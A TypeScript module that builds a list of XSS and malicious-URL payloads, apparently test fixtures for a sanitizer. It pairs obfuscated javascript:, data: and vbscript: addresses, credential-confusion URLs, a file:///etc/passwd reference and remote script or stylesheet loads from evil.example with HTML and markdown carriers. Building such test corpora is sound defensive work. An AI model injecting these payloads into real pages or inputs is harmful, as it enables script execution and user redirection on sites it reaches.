import { each } from './compose.js';

/** Addresses that run something, or lead where nobody wants to be, as browsers have ever read them. */
const ADDRESSES: readonly ((run: string) => string)[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => ` \t\njavascript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `java\r\nscript\n:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `&#106;avascript&#x3a;${run}`,
  (run) => `javascript%3A${run}`,
  (run) => `javascript://example.org/%0a${run}`,
  (run) => `javascript:/*https://example.org/*/${run}`,
  (run) => `https://example.org/\njavascript:${run}`,
  (run) => `vbscript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
  (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  (run) => `view-source:javascript:${run}`,
  (run) => `blob:null/${run}`,
  () => '//evil.example/x.js',
  () => '\\\\evil.example\\x',
  () => 'https://clinic.example@evil.example/',
  () => 'https://clinic.example:x@evil.example/#"onmouseover=x',
  () => 'http://evil.example/"onmouseover="x',
  () => 'file:///etc/passwd',
];

/** Where an address can stand. */
const CARRIERS: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `See ${address} for more.`,
  (address) => `<a href="${address}" id=x autofocus>x</a>`,
  (address) => `<iframe src="${address}">`,
  (address) => `<form action="${address}"><button autofocus>x`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x`,
  (address) => `[more](${address})`,
];

/** Said by something that is no address of its own. */
const OTHERS: readonly string[] = [
  '<base href="//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<script src="//evil.example/x.js"></script>',
  '<img src="//evil.example/x.png">',
  '<object data="//evil.example/">',
  '<link rel=prefetch href="//evil.example/">',
  '<form id=x></form><button form=x formaction="//evil.example/">x',
];

export function addresses(run: string): readonly string[] {
  return [...each(ADDRESSES, CARRIERS, (address, carry) => carry(address(run))), ...OTHERS];
}
